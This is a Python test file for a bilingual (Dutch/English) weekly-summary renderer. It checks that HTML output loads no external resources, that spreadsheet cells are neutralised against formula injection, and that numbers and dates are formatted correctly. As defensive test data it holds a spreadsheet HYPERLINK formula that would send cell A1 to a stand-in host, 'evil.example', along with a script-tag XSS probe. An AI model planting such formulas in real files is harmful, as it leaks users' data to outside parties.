"""Renderers: self-contained HTML, neutralised spreadsheets, Dutch = English but the words."""

from __future__ import annotations

import csv
import html
import io
import re

import openpyxl
import pytest

from analysis.summary import build_weekly_summary
from analysis.summary_render import FORMATS, STRINGS, neutralise, render
from ingest.errors import AnalysisError
from tests.summary.fabricate import TEXTS, WEEK, fabricate
from tests.summary.test_builder import COUNTS

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1, "click")'
URL_RESOURCE = re.compile(
    r"""(?:src|href|xlink:href|action|poster|data)\s*=\s*["']?\s*(?:https?:)?//"""
    r"""|url\(\s*["']?\s*(?:https?:)?//|@import""",
    re.IGNORECASE,
)
NUMBER = re.compile(r"[-+\u2212]?\d+(?:[.,]\d+)?")


@pytest.fixture(scope="module")
def summary():
    texts = {
        **TEXTS,
        2: HOSTILE + " {n}",
        3: "<script>alert(1)</script> see https://shop.example/x.png {n}",
    }
    items, themes = fabricate(COUNTS, texts=texts, sentiment={1: [0.2] * 8 + [-0.4]})
    return build_weekly_summary(items, themes, WEEK)


def test_every_format_renders_in_both_languages(summary):
    for fmt in FORMATS:
        for lang in ("en", "nl"):
            assert render(summary, fmt, lang)


@pytest.mark.parametrize(
    ("fmt", "lang"),
    [
        pytest.param("pdf", "en", id="unknown-format"),
        pytest.param("md", "de", id="unknown-language"),
    ],
)
def test_unknown_format_or_language(summary, fmt, lang):
    with pytest.raises(AnalysisError, match="must be one of"):
        render(summary, fmt, lang)


def test_html_loads_nothing_from_anywhere(summary):
    page = render(summary, "html", "en").decode()
    assert "<svg" in page and "<style>" in page
    assert not URL_RESOURCE.search(page)
    assert "<script" not in page.lower()  # quotes are escaped, the page has no script
    assert "&lt;script&gt;" in page
    assert "https://shop.example/x.png" in page  # a URL in a quote stays text, not a resource


@pytest.mark.parametrize(
    "bad",
    [
        pytest.param('<img src="https://x.example/a.png">', id="img-src"),
        pytest.param('<link href="//cdn.example/s.css">', id="protocol-relative"),
        pytest.param("<style>b{background:url('http://x.example/a.png')}</style>", id="css-url"),
    ],
)
def test_the_url_check_catches_resources(bad):
    assert URL_RESOURCE.search(bad)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        pytest.param("=HYPERLINK(1)", "'=HYPERLINK(1)", id="equals"),
        pytest.param("+31 6 1234", "'+31 6 1234", id="plus"),
        pytest.param("-2+3", "'-2+3", id="minus"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("Late delivery", "Late delivery", id="plain-text"),
        pytest.param(-3, -3, id="negative-number-stays-a-number"),
    ],
)
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_xlsx_has_three_sheets_and_no_live_formula(summary):
    book = openpyxl.load_workbook(io.BytesIO(render(summary, "xlsx", "en")))
    assert book.sheetnames == ["Summary", "Themes", "Quotes"]
    quotes = [row[3] for row in book["Quotes"].iter_rows(min_row=2, values_only=True)]
    hostile = [q for q in quotes if "HYPERLINK" in q]
    assert hostile and all(q.startswith("'=HYPERLINK(") for q in hostile)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    themes = list(book["Themes"].iter_rows(values_only=True))
    assert len(themes) == 1 + len(summary.themes)
    assert themes[1][3] == summary.themes[0].volume.items


def test_csv_one_row_per_theme_and_neutralised(summary):
    for lang, delimiter in (("en", ","), ("nl", ";")):
        rows = list(
            csv.reader(
                io.StringIO(render(summary, "csv", lang).decode("utf-8-sig")), delimiter=delimiter
            )
        )
        assert len(rows) == 1 + len(summary.themes)
        assert [int(r[3]) for r in rows[1:]] == [t.volume.items for t in summary.themes]
        assert all(not c.startswith(("=", "+", "@")) for r in rows for c in r)


def test_csv_neutralises_a_hostile_theme_name():
    items, themes = fabricate(COUNTS)
    themes.loc[themes["theme_id"] == 2, ["label_en", "label_nl"]] = '=HYPERLINK("x")'
    summary = build_weekly_summary(items, themes, WEEK)
    text = render(summary, "csv", "en").decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert not re.search(r"(^|,)=HYPERLINK", text, re.MULTILINE)


def _numbers(text: str) -> list[float]:
    return [float(n.replace(",", ".").replace("\u2212", "-")) for n in NUMBER.findall(text)]


def _visible_text(page: str) -> str:
    page = re.sub(r"<style>.*?</style>", "", page, flags=re.DOTALL)
    page = re.sub(r"<title>.*?</title>", "", page, flags=re.DOTALL)  # svg titles mirror labels
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


def test_dutch_and_english_differ_only_in_language(summary):
    en_md, nl_md = (render(summary, "md", lang).decode() for lang in ("en", "nl"))
    assert en_md != nl_md
    assert _numbers(en_md) == _numbers(nl_md)
    assert en_md.count("\n") == nl_md.count("\n")
    en_html, nl_html = (
        _visible_text(render(summary, "html", lang).decode()) for lang in ("en", "nl")
    )
    assert _numbers(en_html) == _numbers(nl_html)
    en_csv = list(csv.reader(io.StringIO(render(summary, "csv", "en").decode("utf-8-sig"))))
    nl_csv = list(
        csv.reader(io.StringIO(render(summary, "csv", "nl").decode("utf-8-sig")), delimiter=";")
    )
    assert [_numbers(",".join(c for c in r if c)) for r in en_csv] != []
    for en_row, nl_row in zip(en_csv[1:], nl_csv[1:], strict=True):
        assert [_numbers(c) for c in en_row] == [_numbers(c) for c in nl_row]
    en_book, nl_book = (
        openpyxl.load_workbook(io.BytesIO(render(summary, "xlsx", lang))) for lang in ("en", "nl")
    )
    assert en_book.sheetnames == ["Summary", "Themes", "Quotes"]
    assert nl_book.sheetnames == ["Samenvatting", "Thema's", "Citaten"]
    for en_sheet, nl_sheet in zip(en_book.worksheets, nl_book.worksheets, strict=True):
        en_cells = [c for r in en_sheet.iter_rows(values_only=True) for c in r]
        nl_cells = [c for r in nl_sheet.iter_rows(values_only=True) for c in r]
        assert [c for c in en_cells if isinstance(c, int | float)] == [
            c for c in nl_cells if isinstance(c, int | float)
        ]


def test_markdown_names_the_spike_and_the_new_theme_in_both_languages(summary):
    en = render(summary, "md", "en").decode()
    nl = render(summary, "md", "nl").decode()
    assert "**Checkout error** spiked in App reviews: 25 items" in en
    assert "**Fout bij afrekenen** piekte in App-reviews: 25 berichten" in nl
    assert "New theme **Loyalty points**" in en and "Nieuw thema **Spaarpunten**" in nl


@pytest.mark.parametrize(
    ("call", "expected"),
    [
        pytest.param(lambda r: r._signed(0), "0", id="count-unchanged"),
        pytest.param(lambda r: r._signed(-3), "\u22123", id="count-down"),
        pytest.param(lambda r: r._pct(0.4, "nl"), "0%", id="percent-rounds-to-zero"),
        pytest.param(lambda r: r._pct(12.0, "nl"), "+12%", id="percent-up"),
        pytest.param(lambda r: r._decimal(-0.004, "nl", 2, signed=True), "0,00", id="no-minus-zero"),
        pytest.param(lambda r: r._decimal(0.25, "nl", 2, signed=True), "+0,25", id="signed-decimal"),
    ],
)  # fmt: skip
def test_a_change_of_zero_has_no_sign(call, expected):
    """As on the dashboard (``dashboard.formatting.signed``): "0", not "+0" or "-0,00"."""
    from analysis import summary_render

    assert call(summary_render) == expected


ISO_DAY = re.compile(r"\d{4}-\d{2}-\d{2}")


@pytest.mark.parametrize(
    ("lang", "source"),
    [
        pytest.param("nl", re.compile(r"— Reviews, \d{1,2} (sep|okt) 2026"), id="dutch"),
        pytest.param("en", re.compile(r"— Reviews, \d{1,2} (Sep|Oct) 2026"), id="english"),
    ],
)
def test_quotes_name_their_day_as_every_screen_does(summary, lang, source):
    """The audit's "— Reviews, 2026-11-21": a quote's day reads "21 nov 2026" (Dutch) or
    "21 Nov 2026", as the period line and every screen (analysis.localtime.day_month)."""
    markdown = render(summary, "md", lang).decode()
    page = _visible_text(render(summary, "html", lang).decode())
    for shown in (markdown, page):
        assert source.search(shown), shown
        assert not ISO_DAY.search(shown)


@pytest.mark.parametrize(
    ("lang", "date_format"),
    [pytest.param("nl", "dd-mm-yyyy", id="dutch"), pytest.param("en", "d mmm yyyy", id="english")],
)
def test_excel_holds_real_dates_and_percentages(summary, lang, date_format):
    """The audit's workbook: quote days shown year-first and "T.o.v. gemiddelde" / "Aandeel"
    as 46.2 in a plain number cell. Days are dates shown day-first; percentages are
    fractions with a percent format (Excel shows 46,2%); the CSV keeps 46.2."""
    book = openpyxl.load_workbook(io.BytesIO(render(summary, "xlsx", lang)))
    quotes, themes, overview = book.worksheets[2], book.worksheets[1], book.worksheets[0]
    days = [row[2] for row in quotes.iter_rows(min_row=2)]
    assert days and all(c.is_date and c.number_format == date_format for c in days)
    header = [c.value for c in themes[1]]
    first = summary.themes[0]
    for name, percent in (
        ("vs_average", first.volume.change_vs_average_pct),
        ("share", 100 * first.share),
    ):
        cell = themes.cell(2, header.index(f"{STRINGS[f'col.{name}'][lang]} (%)") + 1)
        assert cell.number_format == "0.0%"
        assert cell.value == pytest.approx(percent / 100, abs=0.001)
    total = next(r for r in overview.iter_rows() if r[0].value in ("Total", "Totaal"))
    assert total[5].number_format == "0.0%"
    assert total[5].value == pytest.approx(summary.total.change_vs_average_pct / 100, abs=0.001)
    unsorted = next(
        r for r in overview.iter_rows() if str(r[0].value).endswith(("share", "ongesorteerd"))
    )
    assert unsorted[1].number_format == "0.0%"
    assert unsorted[1].value == pytest.approx(summary.unsorted_share, abs=0.001)


HYPHEN_NUMBER = re.compile(r"(?<![\w-])-\d")


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_text_writes_a_real_minus_and_spreadsheets_plain_numbers(summary, lang):
    """The audit: the summary wrote "-1" and "-0,40" where every screen writes "−1"
    (dashboard.formatting.signed). Markdown and HTML text use a real minus; the CSV and the
    workbook's cells keep numbers a spreadsheet can read ("-1", -1)."""
    assert summary.theme(3).volume.change == -1 and (summary.theme(1).sentiment or 0) < 0
    markdown = render(summary, "md", lang).decode()
    page = _visible_text(render(summary, "html", lang).decode())
    for shown in (markdown, page):
        own_words = "\n".join(
            line for line in shown.splitlines() if not line.startswith(">")
        )  # customers' quotes are theirs
        assert "\u22121 " in own_words or "| \u22121 |" in own_words
        assert "\u22120" in own_words  # the negative sentiment and the colour rule
        assert not HYPHEN_NUMBER.search(own_words), HYPHEN_NUMBER.findall(own_words)
    delimiter = ";" if lang == "nl" else ","
    rows = list(
        csv.reader(
            io.StringIO(render(summary, "csv", lang).decode("utf-8-sig")), delimiter=delimiter
        )
    )
    assert "-1" in [row[5] for row in rows[1:]] and "\u2212" not in str(rows)
    book = openpyxl.load_workbook(io.BytesIO(render(summary, "xlsx", lang)))
    changes = [row[5] for row in book.worksheets[1].iter_rows(min_row=2, values_only=True)]
    assert -1 in changes
